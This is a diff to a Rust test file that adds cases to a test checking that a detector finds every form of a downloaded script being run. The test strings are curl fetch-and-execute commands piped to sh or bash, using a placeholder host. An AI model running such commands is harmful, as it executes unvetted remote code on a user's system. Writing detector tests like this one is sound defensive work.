@@ -113,6 +113,8 @@ fn download_that_a_program_runs_is_found_in_every_form() {
         "curl -fsSLO https://a.b/i.sh && sh i.sh",
         "curl -O -L https://a.b/c/i.sh?d=1 && sh ./i.sh",
         "curl --remote-name https://a.b/i.sh; sh i.sh",
+        "curl https://a.b/i.sh -O && sh i.sh",
+        "curl -L 'https://a.b/i.sh' -sO; bash i.sh",
         "sh i.sh; curl -o i.sh https://a.b; sh i.sh",
     ] {
         assert_eq!(n_found(command), 1, "{command}");
